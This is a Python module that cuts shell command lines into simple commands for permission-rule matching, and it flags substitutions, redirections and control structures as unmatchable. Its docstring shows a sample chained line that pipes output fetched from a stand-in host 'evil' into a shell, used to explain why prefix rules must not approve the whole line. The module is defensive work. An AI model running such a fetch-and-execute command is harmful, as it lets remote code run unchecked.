"""A command line cut into the simple commands a rule is matched against.

`npm test && curl evil | sh` is three commands: a prefix rule for `npm test` allows the first only,
so the whole line is not allowed unless every part is. The cut respects quotes and backslashes
(`echo "a && b"` is one command). What a rule cannot see into makes the line unmatchable for
`allow` (it is asked as before): command substitution (`$(...)`, backticks), process substitution,
redirection to a file (`>`, `<`, except `2>&1`-style joins), control structures and subshells
(`for …; do …; done`, `( … )`); a background `&` is a separator.
"""

from __future__ import annotations

from dataclasses import dataclass

SEPARATORS = ("&&", "||", ";;", ";", "|&", "|", "&", "\n")
# words that open or close a compound command: its parts are not commands a rule can name
CONTROL = frozenset({"for", "while", "until", "if", "then", "else", "elif", "fi", "do", "done", "case", "esac",
                     "function", "select", "{", "}", "!", "coproc", "[[", "time"})


@dataclass(frozen=True)
class Split:
    parts: list[str]  # the simple commands, whitespace-trimmed, none empty
    opaque: str | None = None  # why no allow rule can vouch for this line (None: it can)


def split_command(line: str) -> Split:
    """The simple commands of `line`, and whether it hides commands a rule cannot see."""
    parts: list[str] = []
    current: list[str] = []
    opaque: str | None = None
    quote = ""
    i = 0
    while i < len(line):
        ch = line[i]
        if ch == "\\" and quote != "'":
            current.append(line[i:i + 2])
            i += 2
            continue
        if quote:
            if ch == quote:
                quote = ""
            elif quote == '"' and (ch == "`" or line.startswith("$(", i)):
                opaque = opaque or "it runs a command substitution"
            current.append(ch)
            i += 1
            continue
        if ch in "'\"":
            quote = ch
        else:
            opaque = opaque or _hidden(line, i)
        sep = next((s for s in SEPARATORS if line.startswith(s, i)), None)
        if sep is not None and not _is_redirect_amp(line, i):
            parts.append("".join(current))
            current = []
            i += len(sep)
            continue
        current.append(ch)
        i += 1
    if quote:
        opaque = opaque or "it has an unclosed quote"
    parts.append("".join(current))
    cut = [" ".join(p.split()) for p in parts if p.strip()]
    if any(p.split()[0] in CONTROL or p.startswith("(") or p.endswith(")") for p in cut):
        opaque = opaque or "it uses shell control structures (for, if, while, subshells)"
    return Split(cut, opaque)


def _hidden(line: str, i: int) -> str | None:
    """Why the unquoted text at `i` hides a command or a file from a rule (None: it does not)."""
    if line[i] == "`" or line.startswith("$(", i):
        return "it runs a command substitution"
    if line.startswith(("<(", ">("), i):
        return "it runs a process substitution"
    if line[i] in "<>" and not _joins_streams(line, i):
        return "it redirects to or from a file"
    return None


def _joins_streams(line: str, i: int) -> bool:
    """`2>&1`, `>&2`, `1>&2`: a redirection between streams, not to a file."""
    return line[i] == ">" and line.startswith(">&", i) and i + 2 < len(line) and line[i + 2].isdigit()


def _is_redirect_amp(line: str, i: int) -> bool:
    """The `&` of `>&2` (part of a stream join, not a background separator)."""
    return line[i] == "&" and i > 0 and line[i - 1] == ">"
